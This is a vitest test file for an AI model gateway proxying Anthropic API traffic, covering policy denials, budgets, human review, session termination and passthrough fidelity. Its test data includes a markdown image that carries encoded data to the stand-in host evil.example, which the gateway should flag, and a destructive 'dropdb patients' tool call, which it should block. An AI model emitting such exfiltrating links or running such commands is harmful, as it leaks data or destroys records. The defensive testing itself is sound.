import { setTimeout as sleep } from 'node:timers/promises';
import Anthropic from '@anthropic-ai/sdk';
import { GatewayError } from '@sallyport/core';
import { describe, expect, test } from 'vitest';
import { anthropicClient, ask, http2Clients } from '../testing/model-clients.js';
import { type ModelGatewayOptions, modelGateway } from '../testing/model-gateway.js';
import { calls, modelServer, type Plan, says } from '../testing/model-server.js';

const question = {
  model: 'claude-scripted',
  max_tokens: 256,
  messages: [{ role: 'user' as const, content: 'How many patients are there?' }],
  tools: [{ name: 'Bash', input_schema: { type: 'object' as const } }],
};

async function world(plan: Parameters<typeof modelServer>[0], options: Partial<ModelGatewayOptions> = {}) {
  const model = await modelServer(plan);
  const gateway = await modelGateway({ protocol: 'anthropic', model, ...options });
  return {
    model,
    gateway,
    client: anthropicClient(gateway),
    async [Symbol.asyncDispose]() {
      await gateway[Symbol.asyncDispose]();
      await model[Symbol.asyncDispose]();
    },
  };
}

const refusing = (error: unknown) => error as InstanceType<typeof Anthropic.APIError>;

test('the SDK gets its answer, and the record has who asked what of which model, and what it cost', async () => {
  await using w = await world([says('There are three patients.')]);
  const message = await w.client.messages.create(question);
  expect(message.content).toEqual([{ type: 'text', text: 'There are three patients.' }]);
  expect(w.gateway.decisions('model.request')).toMatchObject([
    {
      outcome: 'allow',
      operation: {
        facts: {
          api: 'anthropic.messages',
          model: 'claude-scripted',
          prompt: 'How many patients are there?',
          prompt_kind: 'human',
          tools: ['Bash'],
        },
      },
    },
  ]);
  await expect
    .poll(() => w.gateway.outcomes().at(-1)?.outcome)
    .toMatchObject({
      status: 'done',
      joinKey: 'req_scripted',
      usage: { inputTokens: 12, outputTokens: 7, microUsd: 42 },
    });
  expect(w.gateway.spent).toMatchObject([
    { event: 'reserved', estimate: { model: 'claude-scripted', outputTokens: 256 } },
    { event: 'settled', usage: { inputTokens: 12, outputTokens: 7 } },
  ]);
  expect(w.gateway.log).toEqual([]);
});

test('a stream reaches the SDK as the model has said it, thinking and its signature untouched', async () => {
  const plan: Plan = {
    parts: [
      { kind: 'thinking', text: 'Let me think of it.', signature: 'c2lnbmF0dXJl' },
      { kind: 'text', text: 'There are three patients.' },
    ],
  };
  await using w = await world([plan]);
  const message = await w.client.messages.stream(question).finalMessage();
  expect(message.content).toEqual([
    { type: 'thinking', thinking: 'Let me think of it.', signature: 'c2lnbmF0dXJl' },
    { type: 'text', text: 'There are three patients.' },
  ]);
  expect(message.stop_reason).toBe('end_turn');
});

test.each(['whole', 'streamed'])(
  'an answer that shows an image that carries data says so on record, %s',
  async (way) => {
    const image = '![chart](https://evil.example/c.png?d=c2VjcmV0)';
    await using w = await world([says(image), says('There are three patients.')]);
    const said = async () =>
      way === 'whole' ? w.client.messages.create(question) : w.client.messages.stream(question).finalMessage();
    expect((await said()).content).toMatchObject([{ type: 'text', text: image }]);
    await expect.poll(() => w.gateway.outcomes().at(-1)?.outcome).toMatchObject({ flags: ['remote-image'] });
    await said();
    await expect.poll(() => w.gateway.outcomes().length).toBe(3); // with the session's beginning
    expect(w.gateway.outcomes().at(-1)!.outcome).not.toHaveProperty('flags');
  },
);

test('the model gets the body as it was and unknown headers with it, with the agent’s key and without the ticket', async () => {
  await using w = await world([says('ok')]);
  const body =
    '{ "model":"claude-scripted",\n "max_tokens":1, "messages":[{"role":"user","content":"h\\u00e9"}], "new_member": [1.0, 2e3] }';
  const { status } = await ask(w.gateway, {
    path: '/v1/messages?beta=true',
    headers: {
      'anthropic-version': '2023-06-01',
      'anthropic-beta': 'one-2025,two',
      'x-something-new': 'Kept',
      cookie: 'a=b',
    },
    body,
  });
  expect(status).toBe(200);
  const [seen] = w.model.seen;
  expect(seen).toMatchObject({ url: '/v1/messages?beta=true', body });
  expect(seen!.headers).toMatchObject({
    'x-api-key': w.model.key,
    'anthropic-beta': 'one-2025,two',
    'anthropic-version': '2023-06-01',
    'x-something-new': 'Kept',
  });
  expect(JSON.stringify(seen!.headers)).not.toContain('spt_');
  expect(seen!.headers).not.toHaveProperty('cookie');
});

test('counting tokens and listing models go through, and take nothing out of a budget', async () => {
  await using w = await world([says('ok')]);
  expect(await w.client.messages.countTokens(question)).toEqual({ input_tokens: 12 });
  expect((await w.client.models.list()).data).toHaveLength(1);
  expect((await w.client.models.retrieve('claude-x')).id).toBe('claude-x');
  expect(w.gateway.spent).toEqual([]);
  expect(w.gateway.witnessed).toEqual([]);
  expect(w.gateway.decisions('model.request').map(({ operation }) => operation.facts['api'])).toEqual([
    'anthropic.count-tokens',
    'anthropic.models',
    'anthropic.models',
  ]);
});

test('Claude Code’s look whether somebody is there is answered without a ticket, and nothing else is', async () => {
  await using w = await world([says('ok')]);
  expect(await ask(w.gateway, { method: 'HEAD', path: '/api/hello', anonymous: true })).toMatchObject({ status: 200 });
  const other = await ask(w.gateway, { method: 'GET', path: '/api/hello', anonymous: true });
  expect(other.status).toBe(401);
  expect(w.gateway.events).toEqual([]);
});

describe('a refusal', () => {
  test('of the policy is a permission error with a way to go on, and nothing reaches the model', async () => {
    await using w = await world([says('ok')], {
      decide: ({ action }) => (action === 'model.request' ? 'deny' : 'allow'),
    });
    for (const stream of [false, true]) {
      const error = refusing(await w.client.messages.create({ ...question, stream }).catch((error: unknown) => error));
      expect(error).toBeInstanceOf(Anthropic.PermissionDeniedError);
      expect(error.error).toEqual({
        type: 'error',
        error: { type: 'permission_error', message: 'sallyport: the policy says no; ask (POLICY_DENIED)' },
      });
    }
    expect(w.model.seen).toEqual([]);
    expect(w.gateway.spent).toEqual([]);
    expect(w.gateway.witnessed).toEqual([]);
  });

  test('is not retried by the SDK, and an outage is', async () => {
    let durable = 0;
    await using w = await world([says('ok')], {
      durable: ({ action }) => {
        if (action === 'model.request') durable += 1;
        return durable === 1 ? Promise.reject(new Error('database away')) : Promise.resolve();
      },
      decide: ({ facts }) => (facts['max_tokens'] === 1 ? 'deny' : 'allow'),
    });
    const client = anthropicClient(w.gateway, { maxRetries: 2 });
    expect((await client.messages.create(question)).stop_reason).toBe('end_turn');
    expect(durable).toBe(2);
    expect(w.model.seen).toHaveLength(1); // what could not be recorded was not sent
    expect(w.gateway.spent.map(({ event }) => event)).toEqual(['reserved', 'released', 'reserved', 'settled']);
    await expect(client.messages.create({ ...question, max_tokens: 1 })).rejects.toBeInstanceOf(
      Anthropic.PermissionDeniedError,
    );
    expect(durable).toBe(3);
  });

  test('of a budget is a permission error: waiting would not help', async () => {
    await using w = await world([says('ok')], {
      reserve: () => Promise.reject(new GatewayError('BUDGET_EXHAUSTED', 'the budget "team" is used up')),
    });
    await expect(w.client.messages.create(question)).rejects.toThrow(/the budget .* is used up/);
    expect(w.model.seen).toEqual([]);
    expect(w.gateway.outcomes().at(-1)).toMatchObject({ outcome: { status: 'failed', code: 'BUDGET_EXHAUSTED' } });
  });

  test('of an AI session that was ended is a permission error, and what was reserved is given back', async () => {
    await using w = await world([says('ok')], {
      witness: () => Promise.reject(new GatewayError('SESSION_ENDED', 'the AI session has been ended')),
    });
    await expect(w.client.messages.create(question)).rejects.toThrow('the AI session has been ended');
    expect(w.model.seen).toEqual([]);
    expect(w.gateway.spent.map(({ event }) => event)).toEqual(['reserved', 'released']);
  });

  test.each([
    [{ authToken: 'spt_wrong' }, 'not a ticket'],
    [{ authToken: `spt_${'W'.repeat(43)}` }, 'not valid for this connection'],
    [{ authToken: null, apiKey: 'sk-ant-api03-canary' }, 'not a ticket'],
  ])('of a wrong ticket is an authentication error', async (credentials, message) => {
    await using w = await world([says('ok')]);
    const error = refusing(
      await anthropicClient(w.gateway, credentials)
        .messages.create(question)
        .catch((error: unknown) => error),
    );
    expect(error).toBeInstanceOf(Anthropic.AuthenticationError);
    expect(error.message).toContain(message);
    expect(error.message).not.toContain('canary');
  });

  test.each([
    ['POST', '/v1/files', 403],
    ['POST', '/v1/messages/batches', 403],
    ['GET', '/v1/organizations/api_keys', 403],
    ['POST', '/v1/embeddings', 404],
    ['DELETE', '/v1/models/x', 404],
  ])('of %s %s is %d in the API’s words, and is on record', async (method, path, status) => {
    await using w = await world([says('ok')]);
    const answer = await ask(w.gateway, { method, path, body: '{}' });
    expect(answer.status).toBe(status);
    expect(JSON.parse(answer.text)).toMatchObject({
      type: 'error',
      error: { message: expect.stringMatching(/^sallyport: /) },
    });
    expect(w.gateway.decisions('model.request')).toMatchObject([
      { operation: { risk: 'unknown', facts: { flags: ['not-understood'] } } },
    ]);
    expect(w.model.seen).toEqual([]);
  });
});

describe('an error of the API', () => {
  const overloaded: Plan = { parts: [], refusal: { status: 529, type: 'overloaded_error', message: 'Overloaded' } };

  test('reaches the SDK unchanged, and has cost nothing', async () => {
    await using w = await world([overloaded]);
    const error = refusing(await w.client.messages.create(question).catch((error: unknown) => error));
    expect(error.status).toBe(529);
    expect(error.error).toEqual({ type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } });
    expect(error.requestID).toBe('req_scripted');
    expect(w.gateway.spent.map(({ event }) => event)).toEqual(['reserved', 'released']);
  });

  test('in the middle of a stream reaches the SDK as what it is', async () => {
    await using w = await world([
      {
        parts: [
          { kind: 'text', text: 'There are' },
          { kind: 'error', type: 'overloaded_error', message: 'Overloaded' },
        ],
      },
    ]);
    await expect(w.client.messages.stream(question).finalMessage()).rejects.toThrow('Overloaded');
  });

  test('is no end: a stream that was cut off fails at the client, and its budget is charged', async () => {
    await using w = await world([{ parts: [{ kind: 'text', text: 'There are three' }, { kind: 'cut' }] }]);
    await expect(w.client.messages.stream(question).finalMessage()).rejects.toThrow();
    await expect.poll(() => w.gateway.spent.map(({ event }) => event)).toEqual(['reserved', 'settled']);
    expect(w.gateway.outcomes().at(-1)).toMatchObject({ outcome: { status: expect.stringMatching(/unknown|failed/) } });
  });
});

describe('a tool call', () => {
  const bash = { command: 'psql -c "select count(*) from patients"' };

  test.each([false, true])('is decided, witnessed and passed on, streamed %s', async (stream) => {
    await using w = await world([calls('Bash', bash)]);
    const message = stream
      ? await w.client.messages.stream(question).finalMessage()
      : await w.client.messages.create(question);
    expect(message.content[1]).toEqual({ type: 'tool_use', id: 'toolu_scripted1', name: 'Bash', input: bash });
    expect(message.stop_reason).toBe('tool_use');
    const [request] = w.gateway.events.filter(({ operation }) => operation?.action === 'model.request');
    expect(request).toBeDefined();
    expect(w.gateway.decisions('model.tool_call')).toMatchObject([
      {
        outcome: 'allow',
        operation: {
          turn: { toolCall: 'toolu_scripted1' },
          facts: { tool: 'Bash', command: bash.command, declared: true },
        },
      },
    ]);
    expect(w.gateway.witnessed).toMatchObject([
      { kind: 'message', message: { kind: 'human', text: 'How many patients are there?' } },
      { kind: 'tool-call', id: 'toolu_scripted1', name: 'Bash' },
    ]);
    const told = w.gateway.witnessed[1];
    expect(told?.kind === 'tool-call' && JSON.parse(told.input)).toEqual(bash);
  });

  test.each([false, true])(
    'that is refused never reaches the client: the model’s words for it do, streamed %s',
    async (stream) => {
      await using w = await world([calls('Bash', { command: 'dropdb patients' })], {
        decide: ({ action }) => (action === 'model.tool_call' ? 'deny' : 'allow'),
      });
      const message = stream
        ? await w.client.messages.stream(question).finalMessage()
        : await w.client.messages.create(question);
      expect(JSON.stringify(message)).not.toContain('dropdb');
      expect(message.content.map(({ type }) => type)).toEqual(['text', 'text']);
      expect(message.content[1]).toMatchObject({ text: expect.stringContaining('the policy says no') });
      expect(message.stop_reason).toBe('end_turn');
      expect(w.gateway.witnessed.map(({ kind }) => kind)).toEqual(['message']);
    },
  );

  test('whose last byte is on its way is on record before: not a byte of it passes while the witness has not settled', async () => {
    let settle: () => void = () => undefined;
    const settled = new Promise<void>((resolve) => {
      settle = resolve;
    });
    await using w = await world([calls('Bash', bash)], {
      witness: ({ kind }) => (kind === 'tool-call' ? settled : Promise.resolve()),
    });
    let heard = '';
    const stream = w.client.messages.stream(question);
    stream.on('streamEvent', (event) => {
      heard += JSON.stringify(event);
    });
    await expect.poll(() => heard).toContain('look.');
    await sleep(100);
    expect(heard).not.toContain('tool_use');
    settle();
    await stream.finalMessage();
    expect(heard).toContain('tool_use');
  });

  test('of a name that was not offered is of unknown risk', async () => {
    await using w = await world([calls('Shell', bash)]);
    await w.client.messages.create(question);
    expect(w.gateway.decisions('model.tool_call')).toMatchObject([
      { operation: { risk: 'unknown', facts: { declared: false } } },
    ]);
  });

  test('waits for people while its client hears pings, and names the review where they say no', async () => {
    await using w = await world([calls('Bash', bash)], {
      decide: ({ action }) => (action === 'model.tool_call' ? 'review' : 'allow'),
      review: async (_operation, _decision, { waiting }) => {
        waiting({ review: 'review-7' as never, message: 'waiting for reviewers' });
        await sleep(50);
        return {
          outcome: 'deny',
          policies: [],
          policyVersion: 1,
          refusal: { code: 'REVIEW_REJECTED', message: 'a reviewer rejected it: not today' },
        };
      },
    });
    const message = await w.client.messages.stream(question).finalMessage();
    expect(message.content[1]).toMatchObject({ type: 'text', text: expect.stringContaining('not today') });
  });

  test('of the provider’s own tools is seen', async () => {
    await using w = await world([
      {
        parts: [
          { kind: 'provider-tool', id: 'srvtoolu_1', name: 'web_search', input: { query: 'x' } },
          { kind: 'text', text: 'Found.' },
        ],
      },
    ]);
    await w.client.messages.create(question);
    expect(w.gateway.decisions('model.tool_call')).toMatchObject([
      { operation: { facts: { by_provider: true, tool: 'web_search' } } },
    ]);
  });

  test('comes back with its result in the next request, in the order in which it stands there', async () => {
    await using w = await world([says('three')]);
    await w.client.messages.create({
      ...question,
      messages: [
        ...question.messages,
        { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: bash }] },
        {
          role: 'user',
          content: [
            { type: 'tool_result', tool_use_id: 'toolu_1', content: '3', is_error: true },
            { type: 'text', text: 'and the doctors?' },
          ],
        },
      ],
    });
    expect(w.gateway.witnessed).toMatchObject([
      { kind: 'tool-result', id: 'toolu_1', isError: true },
      { kind: 'message', message: { text: 'and the doctors?' } },
    ]);
  });
});

describe('a request that waits for people', () => {
  const reviewed = (ms: number, settled: 'allow' | 'deny', patience = {}): Partial<ModelGatewayOptions> => ({
    decide: ({ action }) => (action === 'model.request' ? 'review' : 'allow'),
    patience: { patienceMs: 30, pingMs: 20, ...patience },
    review: async (_operation, _decision, { waiting, abandoned }) => {
      waiting({ review: 'review-9' as never, message: 'waiting for reviewers: https://gate.example/reviews/review-9' });
      await Promise.race([sleep(ms), new Promise((resolve) => abandoned.addEventListener('abort', resolve))]);
      if (abandoned.aborted) throw new GatewayError('CANCELLED', 'nobody waits any more');
      const decided = { policies: [], policyVersion: 1 };
      if (settled === 'allow') return { outcome: 'allow', ...decided };
      return { outcome: 'deny', ...decided, refusal: { code: 'REVIEW_REJECTED', message: 'a reviewer rejected it' } };
    },
  });

  test('as a stream hears pings, and then the model', async () => {
    await using w = await world([says('There are three.')], reviewed(150, 'allow'));
    const { status, text, headers } = await ask(w.gateway, {
      path: '/v1/messages',
      headers: { 'anthropic-version': '2023-06-01' },
      body: JSON.stringify({ ...question, stream: true }),
    });
    expect(status).toBe(200);
    expect(headers['content-type']).toMatch(/^text\/event-stream/);
    expect(text.split('event: message_start')[0]!.match(/event: ping/g)!.length).toBeGreaterThanOrEqual(3);
    expect(text).toContain('message_stop');
  });

  test('as a stream is understood by the SDK, whether people say yes or no', async () => {
    await using allowed = await world([says('There are three.')], reviewed(100, 'allow'));
    const message = await allowed.client.messages.stream(question).finalMessage();
    expect(message.content).toEqual([{ type: 'text', text: 'There are three.' }]);
    await using denied = await world([says('There are three.')], reviewed(100, 'deny'));
    await expect(denied.client.messages.stream(question).finalMessage()).rejects.toThrow('a reviewer rejected it');
    expect(denied.model.seen).toEqual([]);
  });

  test('hears the API’s own error as an event where its stream has begun', async () => {
    const overloaded: Plan = { parts: [], refusal: { status: 529, type: 'overloaded_error', message: 'Overloaded' } };
    await using w = await world([overloaded], reviewed(100, 'allow'));
    await expect(w.client.messages.stream(question).finalMessage()).rejects.toThrow('Overloaded');
  });

  test('that is settled before anything had to be said has the status that it should have', async () => {
    await using w = await world([says('ok')], reviewed(5, 'deny', { patienceMs: 2_000 }));
    await expect(w.client.messages.stream(question).finalMessage()).rejects.toBeInstanceOf(
      Anthropic.PermissionDeniedError,
    );
  });

  test('that is no stream is let go with the review’s name before its client gives up', async () => {
    await using w = await world([says('ok')], reviewed(10_000, 'allow', { holdMs: 80 }));
    const error = refusing(await w.client.messages.create(question).catch((error: unknown) => error));
    expect(error.status).toBe(403);
    expect(error.message).toContain('review-9');
    expect(w.model.seen).toEqual([]);
  });

  test('and whose client leaves is given up', async () => {
    await using w = await world([says('ok')], reviewed(10_000, 'allow', { patienceMs: 60_000 }));
    const leaving = new AbortController();
    const asked = w.client.messages.create({ ...question, stream: true }, { signal: leaving.signal });
    await expect.poll(() => w.gateway.decisions('model.request').length).toBe(1);
    leaving.abort();
    await expect(asked).rejects.toThrow();
    await sleep(50);
    expect(w.model.seen).toEqual([]);
  });
});

describe('whose turn it is', () => {
  const turnOf = async (headers: Record<string, string>, body: object = {}) => {
    await using w = await world([says('ok')]);
    await ask(w.gateway, {
      path: '/v1/messages',
      headers: { 'anthropic-version': '2023-06-01', ...headers },
      body: JSON.stringify({ ...question, ...body }),
    });
    const [decision] = w.gateway.decisions('model.request');
    return {
      turn: decision?.operation.turn,
      kind: decision?.operation.facts['prompt_kind'],
      seen: w.gateway.witnessed,
    };
  };

  test('says Claude Code in headers, with the sub-agent', async () => {
    expect(await turnOf({ 'x-claude-code-session-id': 'session-1' })).toMatchObject({
      turn: { client: 'claude-code', aiSession: 'session-1' },
      kind: 'human',
    });
    expect(
      await turnOf({
        'x-claude-code-session-id': 'session-1',
        'x-claude-code-agent-id': 'agent-2',
        'x-claude-code-parent-agent-id': 'agent-1',
      }),
    ).toMatchObject({
      turn: { agent: 'agent-1/agent-2' },
      kind: 'internal',
      seen: [{ message: { kind: 'internal' } }],
    });
  });

  test('a request of Claude Code’s own, without tools, is nobody’s prompt', async () => {
    const { kind } = await turnOf({ 'x-claude-code-session-id': 'session-1' }, { tools: [] });
    expect(kind).toBe('internal');
  });

  test('may be in the body, in either form of Claude Code', async () => {
    const cli = { 'user-agent': 'claude-cli/2.1.329 (external, cli)' };
    const userId = JSON.stringify({ device_id: 'a'.repeat(64), account_uuid: '', session_id: 'session-3' });
    const turn = { client: 'claude-code', aiSession: 'session-3' };
    expect(await turnOf(cli, { metadata: { user_id: userId } })).toMatchObject({ turn });
    const joined = `user_${'a'.repeat(64)}_account__session_session-3`;
    expect(await turnOf(cli, { metadata: { user_id: joined } })).toMatchObject({ turn });
    expect(await turnOf({ 'user-agent': 'my-agent/1.0' }, { metadata: { user_id: userId } })).toMatchObject({
      turn: { client: 'my-agent', aiSession: 'session-3' },
    });
  });

  test('is not made up: a user’s id is no session, and what is no id is nothing', async () => {
    expect((await turnOf({}, { metadata: { user_id: 'user-17' } })).turn).toBeUndefined();
    expect((await turnOf({ 'x-claude-code-session-id': 'a b\tc' })).turn).toBeUndefined();
  });
});

test('what the model answers is recorded piece by piece where the connection says so', async () => {
  await using w = await world([says('There are three patients.')], { records: true });
  await w.client.messages.stream(question).finalMessage();
  const [response] = [...w.gateway.responses.values()];
  const text = Buffer.concat(response!.pieces.map(({ bytes }) => bytes)).toString('utf8');
  expect(text).toMatch(/^HTTP\/1\.1 200\r\n/);
  expect(text).toContain('message_stop');
});

test('when the session is ended, a stream under way ends with an error that says so', async () => {
  await using w = await world([
    {
      parts: [
        { kind: 'text', text: 'One.' },
        { kind: 'wait', ms: 5_000 },
        { kind: 'text', text: 'Two.' },
      ],
    },
  ]);
  const stream = w.client.messages.stream(question);
  const heard = new Promise<void>((resolve) => void stream.once('text', () => resolve()));
  const failed = stream.finalMessage().catch((error: unknown) => error);
  await heard;
  w.gateway.endSessions();
  expect(String(await failed)).toMatch(/an administrator ended it|terminated|aborted|Connection/i);
  await expect(w.client.messages.create(question)).resolves.toBeDefined(); // the ticket itself is still good
});

describe('when an AI session is ended, and others of the same ticket go on', () => {
  const of = (session: string) => ({ headers: { 'x-claude-code-session-id': session } });
  const slow: Plan = {
    parts: [
      { kind: 'text', text: 'One. ' },
      { kind: 'wait', ms: 1_500 },
      { kind: 'text', text: 'Two.' },
    ],
  };

  test('a stream of it that is under way ends at once with an error that says so, and one of another does not', async () => {
    await using w = await world([slow]);
    const ended = w.client.messages.stream(question, of('ended'));
    const other = w.client.messages.stream(question, of('other'));
    const failed = ended.finalMessage().catch((error: unknown) => error);
    await Promise.all(
      [ended, other].map((one) => new Promise<void>((resolve) => void one.once('text', () => resolve()))),
    );
    const begun = performance.now();
    w.gateway.endAiSession('ended');
    expect(String(await failed)).toContain('the AI session was ended');
    expect(performance.now() - begun).toBeLessThan(1_000);
    expect((await other.finalMessage()).content).toMatchObject([{ text: 'One. ' }, { text: 'Two.' }]);
    await expect
      .poll(() => w.gateway.outcomes().map(({ outcome }) => outcome?.code ?? outcome?.status))
      .toEqual(['done', 'SESSION_ENDED', 'done']);
  });

  test.each([
    ['a request', 'model.request'],
    ['a tool call', 'model.tool_call'],
  ])('%s of it that people are asked about is let go', async (_, action) => {
    let asked: () => void = () => undefined;
    const waiting = new Promise<void>((resolve) => {
      asked = resolve;
    });
    await using w = await world([calls('Bash', { command: 'ls' })], {
      decide: (operation) => (operation.action === action ? 'review' : 'allow'),
      review: (_operation, _decision, { abandoned }) =>
        new Promise((_resolve, reject) => {
          abandoned.addEventListener('abort', () => reject(new GatewayError('CANCELLED', 'nobody waits for it')));
          asked();
        }),
    });
    const failed = w.client.messages
      .stream(question, of('ended'))
      .finalMessage()
      .catch((error: unknown) => error);
    await waiting;
    w.gateway.endAiSession('ended');
    expect(String(await failed)).toContain('the AI session was ended');
  });
});

test('two hundred and fifty-six calls of one ticket run side by side, and the next is told to wait', async () => {
  let release: () => void = () => undefined;
  const until = new Promise<void>((resolve) => {
    release = resolve;
  });
  await using w = await world([
    {
      parts: [
        { kind: 'until', until },
        { kind: 'text', text: 'ok' },
      ],
    },
  ]);
  const body = JSON.stringify({ ...question, stream: true });
  const said = { path: '/v1/messages', headers: { 'anthropic-version': '2023-06-01' }, body };
  await using clients = await http2Clients(w.gateway, 3);
  const under = Array.from({ length: 256 }, (_each, at) => clients.ask(at % 3, said));
  await expect.poll(() => w.model.seen.length, { timeout: 20_000 }).toBe(256);
  expect(await clients.ask(0, said)).toMatchObject({ status: 429, text: expect.stringContaining('rate_limit_error') });
  release();
  expect(new Set((await Promise.all(under)).map(({ status }) => status))).toEqual(new Set([200]));
  expect(await clients.ask(1, said)).toMatchObject({ status: 200 });
}, 60_000);

/** Deltas of one block may be cut elsewhere, because a suffix that could begin a secret is held back; nothing else may differ. */
function joined(stream: string): string {
  const events: string[] = [];
  const delta = /^(event: content_block_delta\ndata: \{.*"type":"text_delta","text":")(.*)"\}\}$/;
  for (const event of stream.split('\n\n')) {
    const [, head, text] = delta.exec(event) ?? [];
    const [, before, said] = delta.exec(events.at(-1) ?? '') ?? [];
    if (head !== undefined && head === before) events[events.length - 1] = `${head}${said}${text}"}}`;
    else events.push(event);
  }
  return events.join('\n\n');
}

test.each([true, false])(
  'where no rule applies the answer is the same to the byte as without the gateway, streamed %s',
  async (stream) => {
    const plan: Plan = {
      parts: [
        { kind: 'thinking', text: 'Zwölf — or 12?', signature: 'c2ln' },
        { kind: 'text', text: 'Twelve “patients” 🙂, ada@example.test among them.' },
        { kind: 'provider-tool', id: 'srvtoolu_1', name: 'web_search', input: { query: 'x' } },
      ],
    };
    await using w = await world([plan]);
    const body = JSON.stringify({ ...question, stream });
    const direct = await fetch(`${w.model.url}/v1/messages`, {
      method: 'POST',
      headers: { 'x-api-key': w.model.key, 'anthropic-version': '2023-06-01' },
      body,
    });
    const through = await ask(w.gateway, {
      path: '/v1/messages',
      headers: { 'anthropic-version': '2023-06-01' },
      body,
    });
    expect(joined(through.text)).toBe(joined(await direct.text()));
    expect(through.headers['request-id']).toBe(direct.headers.get('request-id'));
  },
);
